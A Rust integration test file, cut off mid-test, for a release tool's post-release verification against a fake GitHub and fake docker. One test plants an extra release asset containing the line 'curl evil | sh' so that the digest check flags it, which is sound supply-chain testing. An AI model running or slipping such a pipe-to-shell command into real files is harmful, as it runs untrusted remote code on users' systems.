//! `cargo xtask post-release`: a real release of the example project (git with a bare origin,
//! the fake GitHub, the real `xtask-github`), then the post-release checks — a clean pass, each
//! verification failing for its own reason, the milestone, and re-runs that change nothing.
//! Build `cargo build -p github --bin xtask-github` first.

#[path = "release/support.rs"]
#[allow(dead_code)]
mod support;

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::process::Command;

use fake_github::{FakeGithub, Fault, Issue, Release};
use serde_json::Value;
use support::{github_bin, Fixture, Run};
use testkit::docker::FakeDocker;

const TOKEN: &str = "xtask-test-token-PostRelease0123456789abcdef";
const OWNER: &str = "tzervas";
const REPO: &str = "codemate-hub";
const FLOWS: &str = "docs/langflow/examples/*.json";
const TARBALL: &str = "codemate-hub-v0.5.0.tar.gz";

/// `xtask <command> ARGS` on the fixture, pointed at the fake GitHub.
fn xtask(f: &Fixture, gh: &FakeGithub, command: &str, args: &[&str]) -> Run {
    xtask_with(f, gh, command, args, &[])
}

/// [`xtask`] with more environment (a fake docker first on PATH, what it answers).
fn xtask_with(
    f: &Fixture,
    gh: &FakeGithub,
    command: &str,
    args: &[&str],
    env: &[(&str, OsString)],
) -> Run {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
    cmd.arg("--project").arg(f.path()).arg(command).args(args);
    github_env(f, gh, &mut cmd);
    for (key, value) in env {
        cmd.env(key, value);
    }
    let run = f.run(&mut cmd);
    assert!(
        !run.stdout.contains(TOKEN) && !run.stderr.contains(TOKEN),
        "the token leaked: {run:?}"
    );
    run
}

/// The fixture's environment, pointed at the fake GitHub.
fn github_env(f: &Fixture, gh: &FakeGithub, cmd: &mut Command) {
    f.env(cmd);
    cmd.env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_REPOSITORY", format!("{OWNER}/{REPO}"))
        .env("GITHUB_API_URL", gh.api_url())
        .env("XTASK_GITHUB_BIN", github_bin())
        .env("XTASK_GITHUB_RETRY_MS", "1")
        .env("XTASK_GITHUB_DEADLINE_S", "20")
        .env_remove("GITHUB_ACTIONS");
}

/// The example project released as 0.5.0 (with the flows as extra assets).
fn released() -> (Fixture, FakeGithub) {
    let f = Fixture::new();
    let gh = FakeGithub::start(OWNER, REPO, TOKEN);
    let run = xtask(
        &f,
        &gh,
        "release",
        &["0.5.0", "--skip-gate", "--asset", FLOWS, "--execute"],
    );
    assert_eq!(run.code, 0, "{run:?}");
    (f, gh)
}

fn post_release(f: &Fixture, gh: &FakeGithub, extra: &[&str]) -> (Run, Value) {
    post_release_with(f, gh, extra, &[])
}

fn post_release_with(
    f: &Fixture,
    gh: &FakeGithub,
    extra: &[&str],
    env: &[(&str, OsString)],
) -> (Run, Value) {
    let mut args = vec!["0.5.0", "--asset", FLOWS, "--format", "json"];
    args.extend_from_slice(extra);
    let run = xtask_with(f, gh, "post-release", &args, env);
    let doc = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|err| panic!("stdout is not JSON ({err}): {run:?}"));
    (run, doc)
}

/// `id -> (status, reason)` of every check.
fn checks(doc: &Value) -> BTreeMap<String, (String, String)> {
    doc["checks"]
        .as_array()
        .expect("a checks array")
        .iter()
        .map(|c| {
            (
                c["id"].as_str().unwrap().to_string(),
                (
                    c["status"].as_str().unwrap().to_string(),
                    c["reason"].as_str().unwrap_or("").to_string(),
                ),
            )
        })
        .collect()
}

/// The checks that failed or are blocked.
fn not_passing(doc: &Value) -> Vec<String> {
    checks(doc)
        .into_iter()
        .filter(|(_, (status, _))| status == "fail" || status == "blocked")
        .map(|(id, _)| id)
        .collect()
}

/// Asserts exactly `ids` fail, the first with a reason containing `words`.
fn fails_for(doc: &Value, run: &Run, ids: &[&str], words: &str) {
    assert_eq!(not_passing(doc), ids, "{run:?}");
    let reason = &checks(doc)[ids[0]].1;
    assert!(reason.contains(words), "{}: {reason}", ids[0]);
    assert_eq!(run.code, 1, "{run:?}");
}

/// Commits `path` with `text` after the release and pushes it, as a maintainer would.
fn commit_and_push(f: &Fixture, path: &str, text: &str) {
    f.repo.write(path, text);
    f.repo.commit_all(&format!("chore: {path}"));
    f.repo.git(&["push", "--quiet", "origin", "main"]);
}

/// The subjects of origin's main that record the post-release.
fn records_on_origin(f: &Fixture) -> usize {
    f.repo
        .git_origin(&["log", "--format=%s", "main"])
        .lines()
        .filter(|subject| *subject == "Record post-release of v0.5.0")
        .count()
}

fn step<'a>(doc: &'a Value, name: &str) -> &'a Value {
    doc["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no step {name}: {doc}"))
}

fn mutations(gh: &FakeGithub) -> Vec<String> {
    gh.requests()
        .into_iter()
        .filter(|r| r.method != "GET")
        .map(|r| r.line())
        .collect()
}

#[test]
fn a_clean_release_verifies_then_execute_records_it_once() {
    let (f, gh) = released();
    let milestone = gh.add_milestone("v0.5.0", true);
    gh.add_issue(Issue::new("shipped", "closed").in_milestone(milestone));
    let before = (f.snapshot(), mutations(&gh));

    let (plan, doc) = post_release(&f, &gh, &["--next-milestone", "0.6.0"]);
    assert_eq!(plan.code, 0, "{plan:?}");
    let found = checks(&doc);
    for id in [
        "github-release",
        "release-latest",
        "release-notes",
        "tag-pushed",
        "changelog-on-main",
        "version-at-tag",
        "asset-digests",
        "assets-reproducible",
        "docs-archived",
    ] {
        assert_eq!(found[id].0, "pass", "{id}: {:?}", found[id]);
    }
    let rebuilt = &found["assets-reproducible"].1;
    assert!(rebuilt.contains("byte for byte"), "{rebuilt}");
    let flows = std::fs::read_dir(f.path().join("docs/langflow/examples"))
        .unwrap()
        .count();
    assert!(
        rebuilt.contains(&format!("{flows} --asset file")),
        "{rebuilt}"
    );
    for id in ["docs-deployed", "docker-images", "models-doc"] {
        assert_eq!(found[id].0, "skipped", "{id}: {:?}", found[id]);
    }
    // The example's one built service names no image: nothing is pushed, and that is why.
    let images = &found["docker-images"].1;
    assert!(
        images.contains("the project pushes no images") && images.contains("app (no image:)"),
        "{images}"
    );
    for id in [
        "notes-sent",
        "monitor-logs",
        "announce",
        "thank-contributors",
    ] {
        assert_eq!(found[id].0, "manual", "{id}");
    }
    assert!(
        found["thank-contributors"].1.contains("since v0.4.0"),
        "{:?}",
        found["thank-contributors"]
    );
    assert_eq!(found["milestone-closed"].0, "skipped", "planned");
    assert!(found["milestone-closed"]
        .1
        .contains("close milestone v0.5.0"));
    assert_eq!(
        (f.snapshot(), mutations(&gh)),
        before,
        "the plan changes nothing"
    );
    // Same report shape as pre-release: merge-reports reads it.
    assert_eq!(doc["target_version"], "0.5.0");
    assert_eq!(doc["summary"]["fail"], 0);
    // The planned actions are typed (docs/json.md): the GitHub call and its target.
    let step = |name: &str| {
        let steps = doc["steps"].as_array().unwrap();
        steps.iter().find(|s| s["name"] == name).cloned().unwrap()
    };
    let close = &step("milestone-closed")["actions"][0];
    assert_eq!(
        (
            &close["op"],
            &close["call"],
            &close["title"],
            &close["repo"]
        ),
        (
            &"github".into(),
            &"close_milestone".into(),
            &"v0.5.0".into(),
            &format!("{OWNER}/{REPO}").into()
        )
    );
    assert!(close["number"].is_u64(), "{close}");
    let push = step("record")["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["args"][0] == "push")
        .cloned()
        .expect("the record is pushed");
    assert_eq!(
        push["args"],
        serde_json::json!([
            "push",
            "--atomic",
            "origin",
            "refs/heads/main:refs/heads/main"
        ])
    );

    let (run, doc) = post_release(
        &f,
        &gh,
        &[
            "--next-milestone",
            "0.6.0",
            "--execute",
            "--sign-off",
            "announce",
        ],
    );
    assert_eq!(run.code, 0, "{run:?}");
    let found = checks(&doc);
    assert_eq!(found["milestone-closed"].0, "pass");
    assert_eq!(found["next-milestone"].0, "pass");
    assert!(found["announce"].1.starts_with("signed off by"));
    let milestones = gh.milestones();
    assert_eq!(milestones[0].state, "closed");
    assert_eq!(milestones[1].title, "v0.6.0");
    let subject = f.repo.git_origin(&["log", "-1", "--format=%s", "main"]);
    assert_eq!(subject, "Record post-release of v0.5.0");
    let record = f.repo.read("trackers/releases/v0.5.0.md");
    assert!(record.contains("- [x] Release verified — "), "{record}");
    assert!(
        record.contains("- [x] Issues/milestones closed — "),
        "{record}"
    );
    assert!(record.contains("- [x] Next release planned — "), "{record}");
    assert!(record.contains("| announce | communication | manual | signed off by"));
    assert!(record.contains("### Pre-release gate"), "the rest is kept");

    // A re-run (without the sign-off) changes nothing: no commit, no GitHub change.
    let after = (f.snapshot(), mutations(&gh));
    let (again, doc) = post_release(&f, &gh, &["--next-milestone", "0.6.0", "--execute"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert_eq!((f.snapshot(), mutations(&gh)), after, "{again:?}");
    let record_step = doc["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "record")
        .unwrap();
    assert_eq!(record_step["status"], "done", "{record_step}");

    // For a person: the table, the steps, the verdict.
    let human = xtask(&f, &gh, "post-release", &["0.5.0", "--asset", FLOWS]);
    assert_eq!(human.code, 0, "{human:?}");
    assert!(human.stdout.contains("assets-reproducible"), "{human:?}");
    assert!(
        human.stdout.contains("post-release v0.5.0: verified"),
        "{human:?}"
    );
}

#[test]
fn a_draft_fails_github_release() {
    let (f, gh) = released();
    gh.edit_release("v0.5.0", |r| r.draft = true);
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["github-release", "release-latest"],
        "is a draft",
    );
    assert!(checks(&doc)["release-latest"]
        .1
        .contains("see `github-release`"));
}

#[test]
fn a_wrong_latest_fails_release_latest() {
    let (f, gh) = released();
    gh.add_release(Release::new("v0.4.0", false));
    gh.set_latest("v0.4.0");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["release-latest"],
        "GitHub's latest release is v0.4.0",
    );
}

#[test]
fn a_tampered_asset_fails_the_digests_and_the_rebuild() {
    let (f, gh) = released();
    gh.replace_asset("v0.5.0", TARBALL, b"not the release\n");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests", "assets-reproducible"],
        "SHA256SUMS says",
    );
    assert!(checks(&doc)["assets-reproducible"].1.contains(TARBALL));
}

#[test]
fn a_digest_mismatch_fails_asset_digests() {
    let (f, gh) = released();
    let wrong = format!("sha256:{}", "0".repeat(64));
    gh.edit_release("v0.5.0", |r| {
        r.assets
            .iter_mut()
            .find(|a| a.name == TARBALL)
            .unwrap()
            .digest = wrong.clone()
    });
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests"],
        &format!("GitHub reports {wrong}"),
    );
}

#[test]
fn an_extra_asset_fails_asset_digests() {
    let (f, gh) = released();
    gh.add_asset("v0.5.0", "install.sh", b"curl evil | sh\n");
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["asset-digests"],
        "install.sh: not listed in SHA256SUMS",
    );
}

#[test]
fn a_moved_tag_fails_tag_pushed() {
    let (f, gh) = released();
    f.repo.write("src/later.py", "\"\"\"Later.\"\"\"\n");
    f.repo.commit_all("later");
    f.repo
        .git(&["tag", "-f", "-a", "v0.5.0", "-m", "moved", "HEAD"]);
    f.repo.git(&[
        "push",
        "--quiet",
        "--force",
        "origin",
        "main",
        "refs/tags/v0.5.0",
    ]);
    let (run, doc) = post_release(&f, &gh, &[]);
    let failing = not_passing(&doc);
    assert!(failing.contains(&"tag-pushed".to_string()), "{run:?}");
    assert!(
        checks(&doc)["tag-pushed"].1.contains("the tag was moved"),
        "{run:?}"
    );
    assert_eq!(run.code, 1);
}

#[test]
fn a_tag_missing_on_origin_fails_tag_pushed() {
    let (f, gh) = released();
    f.repo
        .git(&["push", "--quiet", "origin", ":refs/tags/v0.5.0"]);
    let (run, doc) = post_release(&f, &gh, &[]);
    assert_eq!(
        not_passing(&doc),
        [
            "docker-images",
            "models-doc",
            "tag-pushed",
            "version-at-tag"
        ],
        "{run:?}"
    );
    assert!(checks(&doc)["tag-pushed"]
        .1
        .contains("origin has no tag v0.5.0"));
    assert!(checks(&doc)["version-at-tag"]
        .1
        .contains("see `tag-pushed`"));
    assert_eq!(run.code, 1);
}

#[test]
fn a_body_that_differs_fails_release_notes() {
    let (f, gh) = released();
    gh.edit_release("v0.5.0", |r| {
        r.body = Some("### Added\n- Something else\n".into())
    });
    let (run, doc) = post_release(&f, &gh, &[]);
    fails_for(
        &doc,
        &run,
        &["release-notes"],
        "differ from the CHANGELOG.md section for 0.5.0",
    );
}

#[test]
fn the_asset_files_are_in_sha256sums_and_verify() {
    let (f, gh) = released();
    let release = &gh.releases()[0];
    let asset = |name: &str| {
        release
            .assets
            .iter()
            .find(|a| a.name == name)
            .unwrap_or_else(|| panic!("no {name}"))
    };
    let sums = String::from_utf8(asset("SHA256SUMS").content.clone()).unwrap();
    let names: Vec<&str> = sums
        .lines()
        .map(|l| l.split_once("  ").unwrap().1)
        .collect();
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(
        names, sorted,
        "sorted by name, as the archive's own lines: {sums}"
    );
    // Every asset but SHA256SUMS itself, the flows among them, each with its bytes' hash.
    let mut uploaded: Vec<&str> = release
        .assets
        .iter()
        .map(|a| a.name.as_str())
        .filter(|n| *n != "SHA256SUMS")
        .collect();
    uploaded.sort();
    assert_eq!(names, uploaded, "{sums}");
    let flow = "code-review-flow.json";
    let on_disk = std::fs::read(f.path().join("docs/langflow/examples").join(flow)).unwrap();
    assert_eq!(asset(flow).content, on_disk);
    assert!(
        sums.contains(&format!(
            "{}  {flow}\n",
            asset(flow).digest.trim_start_matches("sha256:")
        )),
        "{sums}"
    );
    let manifest: Value = serde_json::from_slice(&asset("manifest.json").content).unwrap();
    assert!(
        manifest["extras"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["path"] == format!("docs/langflow/examples/{flow}") && e["name"] == flow),
        "{manifest}"
    );

    // post-release: every asset is listed, the flows are rebuilt from the tag with the rest.
    let (run, doc) = post_release(&f, &gh, &[]);
    let found = checks(&doc);
    assert_eq!(found["asset-digests"].0, "pass", "{run:?}");
    assert!(
        found["asset-digests"]
            .1
            .contains(&format!("each equals SHA256SUMS ({} line(s))", names.len())),
        "{:?}",
        found["asset-digests"]
    );
    assert_eq!(found["assets-reproducible"].0, "pass", "{run:?}");
    // Not a file of the tag: the rebuild says so.
    gh.edit_release("v0.5.0", |r| {
        let asset = r.assets.iter_mut().find(|a| a.name == flow).unwrap();
        asset.content = b"{}".to_vec();
        asset.size = 2;
        asset.digest =
            "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a".into();
    });
    let (run, doc) = post_release(&f, &gh, &[]);
    let found = checks(&doc);
    assert_eq!(found["assets-reproducible"].0, "fail", "{run:?}");
    assert!(
        found["assets-reproducible"].1.contains(flow),
        "{:?}",
        found["assets-reproducible"]
    );
}

#[test]
fn a_titled_release_passes_release_notes_and_another_title_fails() {
    let f = Fixture::new();
    let gh = FakeGithub::start(OWNER, REPO, TOKEN);
    let args = [
        "0.5.0",
        "--skip-gate",
        "--asset",
        FLOWS,
        "--title",
        "Spring Cleaning",
    ];
    let plan = xtask(&f, &gh, "release", &args);
    assert_eq!(plan.code, 0, "{plan:?}");
    assert!(
        plan.stdout
            .contains("create draft release v0.5.0 \"Version 0.5.0 - Spring Cleaning\""),
        "{plan:?}"
    );
    let run = xtask(&f, &gh, "release", &[&args[..], &["--execute"]].concat());
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(
        gh.releases()[0].name.as_deref(),
        Some("Version 0.5.0 - Spring Cleaning")
    );
    let record = f.repo.read("trackers/releases/v0.5.0.md");
    assert!(
        record.contains("`v0.5.0` \"Version 0.5.0 - Spring Cleaning\" on tzervas/codemate-hub"),
        "{record}"
    );
    let (run, doc) = post_release(&f, &gh, &[]);
    assert_eq!(checks(&doc)["release-notes"].0, "pass", "{run:?}");

    for title in [
        "Version 0.5.0 -",
        "Version 0.5.1 - Spring Cleaning",
        "Spring Cleaning",
    ] {
        gh.edit_release("v0.5.0", |r| r.name = Some(title.into()));
        let (run, doc) = post_release(&f, &gh, &[]);
        fails_for(
            &doc,
            &run,
            &["release-notes"],
            &format!("the release title is {title:?}"),
        );
    }
}

#[test]
fn a_milestone_with_open_issues_is_listed_and_not_closed_without_the_flag() {
    let (f, gh) = released();
    let milestone = gh.add_milestone("0.5.0", true);
    gh.add_issue(Issue::new("still broken", "open").in_milestone(milestone));
    let (plan, doc) = post_release(&f, &gh, &[]);
    assert_eq!(plan.code, 0, "{plan:?}");
    let (status, reason) = &checks(&doc)["milestone-closed"];
    assert_eq!(status, "skipped");
    assert!(reason.contains("#1 still broken"), "{reason}");

    let before = (f.snapshot(), mutations(&gh), gh.milestones());
    let (refused, _) = post_release(&f, &gh, &["--execute"]);
    assert_eq!(refused.code, 2, "{refused:?}");
    assert!(refused
        .stderr
        .contains("error: milestone 0.5.0 has 1 open issue(s): #1 still broken"));
    assert!(refused.stderr.contains("hint: "), "{refused:?}");
    assert_eq!((f.snapshot(), mutations(&gh), gh.milestones()), before);

    // A next milestone that is not after the release is bad input, even when planning.
    let (bad, doc) = post_release(&f, &gh, &["--next-milestone", "0.4.0"]);
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad
        .stderr
        .contains("error: --next-milestone 0.4.0 is not after 0.5.0"));
    assert_eq!(doc["exit_code"], 2);

    let (run, doc) = post_release(&f, &gh, &["--execute", "--close-open-milestone"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(checks(&doc)["milestone-closed"].0, "pass");
    assert_eq!(gh.milestones()[0].state, "closed");
}

#[test]
fn without_a_token_the_github_checks_are_blocked_once() {
    let (f, gh) = released();
    let asked = gh.requests().len();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
    cmd.arg("--project")
        .arg(f.path())
        .args(["post-release", "0.5.0", "--format", "json"]);
    f.env(&mut cmd);
    cmd.env("XTASK_GITHUB_BIN", github_bin())
        .env("XTASK_RELEASE_BIN", testkit::release_bin());
    let run = f.run(&mut cmd);
    assert_eq!(run.code, 1, "{run:?}");
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let found = checks(&doc);
    assert_eq!(found["github-release"].0, "blocked");
    assert!(found["github-release"].1.contains("no GitHub token"));
    let naming: Vec<&String> = found
        .iter()
        .filter(|(_, (_, reason))| reason.contains("no GitHub token"))
        .map(|(id, _)| id)
        .collect();
    assert_eq!(naming, ["github-release"], "one reason per root cause");
    assert_eq!(
        gh.requests().len(),
        asked,
        "without a token GitHub is not asked"
    );
}

/// On a terminal `--execute` asks first, as every changing command does (the shared
/// `--execute`/`--yes`/`--format`); `n` changes nothing, `--yes` does not ask.
#[test]
fn a_terminal_is_asked_before_the_cleanup_unless_yes() {
    let script = std::path::Path::new("/usr/bin/script");
    assert!(
        script.exists(),
        "util-linux `script` gives the command a terminal"
    );
    let (f, gh) = released();
    let on_terminal = |extra: &str, answer: &str| {
        let line = format!(
            "{} --project {} post-release 0.5.0 --asset '{FLOWS}' --next-milestone 0.6.0 --execute {extra}",
            env!("CARGO_BIN_EXE_xtask"),
            f.path().display()
        );
        let mut cmd = Command::new(script);
        cmd.args(["-qec", &line, "/dev/null"]);
        github_env(&f, &gh, &mut cmd);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(answer.as_bytes()).unwrap();
        drop(stdin);
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let before = (f.snapshot(), mutations(&gh));
    let refused = on_terminal("", "n\n");
    assert!(refused.contains("carry out this plan? [y/N]"), "{refused}");
    assert!(
        refused.contains("not confirmed: nothing was changed"),
        "{refused}"
    );
    assert_eq!((f.snapshot(), mutations(&gh)), before, "{refused}");

    let done = on_terminal("--yes", "");
    assert!(!done.contains("carry out this plan?"), "{done}");
    let subject = f.repo.git_origin(&["log", "-1", "--format=%s", "main"]);
    assert_eq!(subject, "Record post-release of v0.5.0", "{done}");
    assert!(
        gh.milestones().iter().any(|m| m.title == "v0.6.0"),
        "{done}"
    );
}

const IMAGE: &str = "ghcr.io/tzervas/codemate-hub";

/// The example's `app` service, which compose builds, named `image` on a registry: `docker
/// compose push` pushes it.
fn with_pushed_image(f: &Fixture, image: &str) {
    let compose = f.repo.read("docker-compose.yml");
    let named = compose.replacen(
        "  app:\n    build:",
        &format!("  app:\n    image: {image}:${{APP_IMAGE_TAG:-latest}}\n    build:"),
        1,
    );
    assert_ne!(named, compose, "the example's app service changed shape");
    commit_and_push(f, "docker-compose.yml", &named);
}

/// The example released as 0.5.0 after `prepare` (committed and pushed before the release).
fn released_after(prepare: impl FnOnce(&Fixture)) -> (Fixture, FakeGithub) {
    let f = Fixture::new();
    prepare(&f);
    let gh = FakeGithub::start(OWNER, REPO, TOKEN);
    let run = xtask(
        &f,
        &gh,
        "release",
        &["0.5.0", "--skip-gate", "--asset", FLOWS, "--execute"],
    );
    assert_eq!(run.code, 0, "{run:?}");
    (f, gh)
}

/// The example released as 0.5.0 with its `app` image named [`IMAGE`].
fn released_pushing_image() -> (Fixture, FakeGithub) {
    released_after(|f| with_pushed_image(f, IMAGE))
}

/// A fake docker first on PATH, whose registry holds `manifests` (`REF=sha256:HEX ...`).
fn docker_env(docker: &FakeDocker, manifests: &str) -> Vec<(&'static str, OsString)> {
    vec![
        ("PATH", docker.path_env()),
        ("FAKE_DOCKER_LOG", docker.log().into()),
        ("FAKE_DOCKER_MANIFESTS", manifests.into()),
    ]
}

#[test]
fn a_pushed_image_with_the_version_tag_passes_and_its_digest_is_recorded() {
    let (f, gh) = released_pushing_image();
    let docker = FakeDocker::new();
    let digest = format!("sha256:{}", "ab".repeat(32));
    let env = docker_env(&docker, &format!("{IMAGE}:0.5.0={digest}"));

    let (run, doc) = post_release_with(&f, &gh, &["--execute"], &env);
    assert_eq!(run.code, 0, "{run:?}");
    let (status, reason) = &checks(&doc)["docker-images"];
    assert_eq!(status, "pass", "{reason}");
    let pinned = format!("{IMAGE}:0.5.0@{digest}");
    assert!(reason.contains(&pinned), "{reason}");
    assert!(
        docker
            .calls()
            .contains(&format!("docker manifest inspect --verbose {IMAGE}:0.5.0")),
        "{:?}",
        docker.calls()
    );
    let record = f.repo.read("trackers/releases/v0.5.0.md");
    assert!(
        record.contains("| docker-images | verification | pass |") && record.contains(&pinned),
        "the digest is recorded: {record}"
    );

    // A multi-platform image: each platform's digest.
    let (arm, amd) = (format!("sha256:{}", "0a".repeat(32)), digest.clone());
    let env = docker_env(&docker, &format!("{IMAGE}:0.5.0={amd},{arm}"));
    let (_, doc) = post_release_with(&f, &gh, &[], &env);
    let reason = &checks(&doc)["docker-images"].1;
    assert!(
        reason.contains(&format!(
            "manifest list: linux/amd64@{amd}, linux/arm64@{arm}"
        )),
        "{reason}"
    );

    // A registry that cannot be asked is not a missing tag: blocked, with what docker said.
    let mut env = docker_env(&docker, &format!("{IMAGE}:0.5.0={digest}"));
    env.push(("FAKE_DOCKER_FAIL", "manifest inspect".into()));
    let (run, doc) = post_release_with(&f, &gh, &[], &env);
    assert_eq!(run.code, 1, "{run:?}");
    let (status, reason) = &checks(&doc)["docker-images"];
    assert_eq!(status, "blocked", "{reason}");
    assert!(
        reason.contains("could not be asked") && reason.contains("failing on request"),
        "{reason}"
    );
}

#[test]
fn a_missing_image_tag_fails_docker_images_naming_the_image() {
    let (f, gh) = released_pushing_image();
    let docker = FakeDocker::new();
    // The registry has the previous release's tag, not this one's.
    let env = docker_env(
        &docker,
        &format!("{IMAGE}:0.4.0=sha256:{}", "cd".repeat(32)),
    );
    let (run, doc) = post_release_with(&f, &gh, &[], &env);
    fails_for(
        &doc,
        &run,
        &["docker-images"],
        &format!("{IMAGE}:0.5.0 (service app): no such manifest: {IMAGE}:0.5.0"),
    );
}

#[test]
fn docker_images_asks_about_the_images_of_the_tag_not_of_the_work_tree() {
    let (f, gh) = released_pushing_image();
    // After the release, main renames the image and adds a pushed service.
    let renamed = format!("{IMAGE}-next");
    let compose = f.repo.read("docker-compose.yml").replace(IMAGE, &renamed);
    let compose = compose.replacen(
        "services:\n",
        "services:\n  worker:\n    build: .\n    image: ghcr.io/tzervas/worker\n\n",
        1,
    );
    commit_and_push(&f, "docker-compose.yml", &compose);
    let docker = FakeDocker::new();
    let digest = format!("sha256:{}", "ab".repeat(32));
    let env = docker_env(&docker, &format!("{IMAGE}:0.5.0={digest}"));

    let (run, doc) = post_release_with(&f, &gh, &[], &env);
    let (status, reason) = &checks(&doc)["docker-images"];
    assert_eq!(status, "pass", "{run:?}");
    assert_eq!(
        reason,
        &format!(
            "1 image(s) of docker-compose.yml + docker-compose.override.yml at v0.5.0 pushed \
             for 0.5.0: {IMAGE}:0.5.0@{digest}"
        )
    );
    assert_eq!(
        docker.calls(),
        [format!("docker manifest inspect --verbose {IMAGE}:0.5.0")],
        "only the tag's image is asked about"
    );

    // The registry has the renamed image, not the released one: that is a missing tag.
    let env = docker_env(&docker, &format!("{renamed}:0.5.0={digest}"));
    let (run, doc) = post_release_with(&f, &gh, &[], &env);
    fails_for(
        &doc,
        &run,
        &["docker-images"],
        &format!(
            "1 image(s) of docker-compose.yml + docker-compose.override.yml at v0.5.0 not in the \
             registry for 0.5.0: {IMAGE}:0.5.0 (service app): no such manifest"
        ),
    );
}

#[test]
fn a_compose_file_the_tag_does_not_have_is_not_read() {
    // The release has no compose file; main adds one, with a pushed image, afterwards.
    let (f, gh) = released_after(|f| {
        for file in ["docker-compose.yml", "docker-compose.override.yml"] {
            f.repo.git(&["rm", "--quiet", file]);
        }
        f.repo.commit_all("chore: no compose files");
        f.repo.git(&["push", "--quiet", "origin", "main"]);
    });
    let compose = f.repo.git(&["show", "v0.4.0:docker-compose.yml"]);
    commit_and_push(&f, "docker-compose.yml", &format!("{compose}\n"));
    with_pushed_image(&f, IMAGE);
    let docker = FakeDocker::new();
    let env = docker_env(
        &docker,
        &format!("{IMAGE}:0.5.0=sha256:{}", "ab".repeat(32)),
    );

    let (run, doc) = post_release_with(&f, &gh, &[], &env);
    let (status, reason) = &checks(&doc)["docker-images"];
    assert_eq!(status, "skipped", "{run:?}");
    assert_eq!(
        reason,
        "the project pushes no images: no compose file at v0.5.0 (docker-compose.yml: the \
         project has no compose file)"
    );
    assert_eq!(docker.calls(), Vec::<String>::new());
}

#[test]
fn docs_url_and_milestone_come_from_release_checks_toml_and_the_flags_win() {
    let (f, gh) = released();
    let up = testkit::http::serve_status(200);
    let gone = testkit::http::serve_status(404);
    commit_and_push(
        &f,
        "release-checks.toml",
        &format!(
            "[checks.unit-tests]\ntimeout = \"5m\"\n\n[post-release]\ndocs_url = \"http://127.0.0.1:{up}/docs/{{version}}/\"\nmilestone = \"Release {{version}}\"\n"
        ),
    );
    gh.add_milestone("Release 0.5.0", true);
    gh.add_milestone("v0.5.0", true);

    let (run, doc) = post_release(&f, &gh, &["--next-milestone", "0.6.0"]);
    assert_eq!(run.code, 0, "{run:?}");
    let found = checks(&doc);
    assert_eq!(
        found["docs-deployed"],
        (
            "pass".to_string(),
            format!(
                "GET http://127.0.0.1:{up}/docs/0.5.0/ (from docs_url of [post-release] at \
                 release-checks.toml:5): 200"
            )
        )
    );
    assert!(
        found["milestone-closed"]
            .1
            .contains("close milestone Release 0.5.0"),
        "the configured title, not v0.5.0: {:?}",
        found["milestone-closed"]
    );
    assert!(
        found["next-milestone"]
            .1
            .contains("open milestone Release 0.6.0"),
        "{:?}",
        found["next-milestone"]
    );

    // --docs-url and --milestone are above the file.
    let flag = format!("http://127.0.0.1:{gone}/{{version}}/");
    let (run, doc) = post_release(&f, &gh, &["--docs-url", &flag, "--milestone", "v0.5.0"]);
    assert_eq!(run.code, 1, "{run:?}");
    let found = checks(&doc);
    assert_eq!(
        found["docs-deployed"].1,
        format!("GET http://127.0.0.1:{gone}/0.5.0/ (from --docs-url) answered 404")
    );
    assert!(found["milestone-closed"]
        .1
        .contains("close milestone v0.5.0"));
}

/// `docs-deployed`'s `(status, reason)` for `--docs-url url`, with more environment.
fn docs_deployed_with(
    f: &Fixture,
    gh: &FakeGithub,
    url: &str,
    env: &[(&str, OsString)],
) -> (String, String) {
    let (_, doc) = post_release_with(f, gh, &["--docs-url", url], env);
    checks(&doc)["docs-deployed"].clone()
}

#[test]
fn docs_deployed_asks_curl_which_follows_redirects_and_names_the_final_status() {
    assert!(
        std::path::Path::new("/usr/bin/curl").exists(),
        "this test runs the real curl, /usr/bin/curl"
    );
    let (f, gh) = released();
    // GitHub Pages' shape: `/X.Y.Z` redirects to `/X.Y.Z/`; a moved page redirects to a 404.
    let port = testkit::http::serve_paths(&[
        ("/docs/0.5.0/", 200, None),
        ("/docs/0.5.0", 301, Some("/docs/0.5.0/")),
        ("/moved/0.5.0/", 301, Some("/gone/")),
    ]);
    let site = format!("http://127.0.0.1:{port}");
    // The real curl first on PATH, and the rest of PATH as it is (its git makes the archive).
    let bin = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/usr/bin/curl", bin.path().join("curl")).unwrap();
    let env = [
        ("PATH", testkit::docker::prepend_path(bin.path())),
        ("no_proxy", "127.0.0.1".into()),
    ];

    let page = format!("{site}/docs/0.5.0/");
    assert_eq!(
        docs_deployed_with(&f, &gh, &format!("{site}/docs/{{version}}/"), &env),
        (
            "pass".to_string(),
            format!("GET {page} (from --docs-url): 200")
        )
    );
    assert_eq!(
        docs_deployed_with(&f, &gh, &format!("{site}/docs/{{version}}"), &env),
        (
            "pass".to_string(),
